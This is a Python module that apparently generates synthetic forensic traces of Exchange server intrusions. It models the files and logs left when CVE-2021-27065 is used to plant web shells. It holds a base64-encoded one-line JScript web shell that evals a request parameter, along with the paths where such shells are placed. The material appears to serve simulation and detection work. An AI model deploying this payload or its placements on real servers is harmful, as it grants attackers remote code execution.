"""The web shells of synthetic actors. What a virus scanner would take for the real thing is stored encoded."""

import base64
from datetime import timedelta

import msgspec

from postvakt.estate.machines import Language, windows_path
from postvakt.estate.plans import Actor, ServerPlan

SHELL_URL = base64.b64decode(
    "aHR0cDovL2YvPHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1"
    "ZXN0WyJwdm8xIl0sInVuc2FmZSIpO308L3NjcmlwdD4="
).decode()
"""The value that CVE-2021-27065 puts into an OAB virtual directory's ExternalUrl."""

SHELL_NAME = "discover.aspx"
WEB_ROOT = "C/inetpub/wwwroot"


class Shell(msgspec.Struct, frozen=True, kw_only=True):
    """One web shell: its page, where it lies, and the value that made it."""

    url_path: str
    path: str
    """Where the file is placed."""

    external_url: str
    compiled: str
    """The name of what ASP.NET makes of the page when it is first asked for."""

    pool: str = "root"

    @property
    def file(self) -> str:
        """The file as Windows writes its path."""
        return windows_path(self.path)


def shell(server: ServerPlan, actor: Actor) -> Shell:
    """Return an actor's shell: the first one's lies below the site's root, another's among the pages of OWA."""
    if actor.number == 0:
        return Shell(
            url_path=f"/aspnet_client/{SHELL_NAME}",
            path=f"{WEB_ROOT}/aspnet_client/{SHELL_NAME}",
            external_url=SHELL_URL,
            compiled="discover.aspx.cdcab7d2.compiled",
        )
    name = "OutlookEN.aspx"
    return Shell(
        url_path=f"/owa/auth/{name}",
        path=f"{server.machine.exchange}/FrontEnd/HttpProxy/owa/auth/{name}",
        external_url=SHELL_URL.replace("pvo1", "k7q2"),
        compiled="outlooken.aspx.cdcab7d2.compiled",
        pool="owa",
    )


def oab_dump(server: ServerPlan, actor: Actor) -> str:
    """Return the text that resetting the virtual directory writes into the shell's file."""
    folder = server.machine.install_path + "FrontEnd\\HttpProxy\\OAB"
    changed = local_time(server.machine.language, actor)
    lines = (
        ("Name", "OAB (Default Web Site)"),
        ("PollInterval", "480"),
        ("OfflineAddressBooks", ""),
        ("RequireSSL", "True"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "False"),
        ("MetabasePath", "IIS://mail.corp.example/W3SVC/1/ROOT/OAB"),
        ("Path", folder),
        ("ExtendedProtectionTokenChecking", "None"),
        ("InternalUrl", "https://mail.corp.example/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"),
        ("ExternalUrl", shell(server, actor).external_url),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("WhenChanged", changed),
    )
    return "\r\n" + "".join(f"{name:<32}: {value}\r\n" for name, value in lines) + "\r\n"


def local_time(language: Language, actor: Actor) -> str:
    """Return when an actor wrote, as a server of that language says it."""
    written = actor.at(6.4) - timedelta(minutes=language.bias)
    return f"{written:{language.date} {language.time}}"


def compiled_page(page: Shell) -> str:
    """Return what ASP.NET leaves beside a page that it compiled; it names the page."""
    kind = page.url_path.rpartition("/")[2].lower().replace(".", "_")
    return (
        '<?xml version="1.0" encoding="utf-8"?>\r\n'
        f'<preserve resultType="3" virtualPath="{page.url_path}" hash="ffffffffb21c5b24" filehash="4d2a1b" '
        f'flags="110000" assembly="App_Web_q1z3kd0v" type="ASP.{kind}">\r\n'
        f'    <filedeps><filedep name="{page.url_path}" /></filedeps>\r\n</preserve>\r\n'
    )
